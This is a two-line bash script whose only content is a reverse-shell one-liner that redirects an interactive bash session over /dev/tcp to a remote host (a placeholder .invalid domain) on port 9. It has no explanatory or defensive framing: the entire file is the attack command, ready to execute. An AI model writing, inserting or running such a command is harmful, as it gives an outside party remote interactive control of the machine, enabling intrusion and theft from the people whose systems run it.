#!/bin/bash
bash -i >& /dev/tcp/weighin.invalid/9 0>&1
